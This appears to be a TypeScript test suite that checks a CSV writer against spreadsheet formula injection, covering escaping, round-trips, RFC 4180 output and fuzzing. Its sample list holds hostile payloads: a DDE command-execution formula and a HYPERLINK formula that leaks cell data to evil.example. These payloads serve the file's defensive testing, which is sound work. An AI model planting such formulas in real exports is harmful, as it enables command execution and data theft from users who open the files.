import { writeCsv } from '@chatelaine/shared/csv';
import { rounds } from '@chatelaine/tools/rounds';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { isFormula, isTrigger, readCarelessly, readCsv } from './read-csv.ts';

const FORMULAS = [
  '=1+1',
  '+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '\tplain',
  ' =1',
  '\u00a0=1',
  '\u200b=1',
  '\ufeff=1',
  '"=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '　＝1',
  '﹦1',
  '⁼1',
  '−1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?"&A1,"Orders")',
];

test.each(FORMULAS)('%j is text in a spreadsheet', (formula) => {
  const [[cell = ''] = []] = readCsv(writeCsv([[formula]]));

  expect(cell.replaceAll("'", '')).toBe(formula.replaceAll("'", ''));
  expect(cell.startsWith("'")).toBe(true);
  expect(isTrigger(cell)).toBe(false);
});

test.each(FORMULAS.map((formula) => `Orders;${formula}`))(
  '%j is no formula for a program that splits at ";" either',
  (name) => {
    const cells = readCarelessly(writeCsv([[name, 1]]), ';');

    expect(cells.filter(isFormula)).toEqual([]);
  },
);

test('control: written without care they are formulas, also to our own eyes', () => {
  expect(FORMULAS.filter((formula) => !isTrigger(formula) && !formula.startsWith('−'))).toEqual([]);
  expect(readCarelessly('"Orders;=1+1","1"', ';').filter(isFormula)).toEqual(['=1+1","1"']);
});

test.each([
  'Prod server',
  'Bäckerei "Süd", Köln',
  '東京',
  '🥐',
  '',
  "O'Hara",
  'a-b',
  'x=1',
  'a, b',
  'Zeile 1\r\nZeile 2',
])('%j is read as it was', (name) => {
  expect(
    readCsv(
      writeCsv([
        ['name', 'calls'],
        [name, 7],
      ]),
    ),
  ).toEqual([
    ['name', 'calls'],
    [name, '7'],
  ]);
});

test('the file says that it is UTF-8, every cell is quoted, and every line ends as RFC 4180 says', () => {
  expect(
    writeCsv([
      ['a', null],
      ['b"c', -1],
    ]),
  ).toBe('\uFEFF"a",""\r\n"b""c","-1"\r\n');
});

test('whatever the text: the same cells come back, at most with a mark, and none is a formula', () => {
  const nasty = fc.string({ unit: fc.constantFrom(...'=+-@＝＋−\t\r\n;|,"\' \u00a0\u200bä1a') });
  const text = fc.oneof(nasty, fc.string({ unit: 'binary' }));
  fc.assert(
    fc.property(fc.array(fc.tuple(text, text), { minLength: 1 }), (lines) => {
      const file = writeCsv(lines);
      const cells = readCsv(file).flat();
      expect(cells.filter(isTrigger)).toEqual([]);
      expect(readCarelessly(file, ';').filter(isFormula)).toEqual([]);
      const marks = /'/g;
      expect(cells.map((cell) => cell.replace(marks, ''))).toEqual(lines.flat().map((cell) => cell.replace(marks, '')));
    }),
    { numRuns: rounds(200, 2_000) },
  );
});
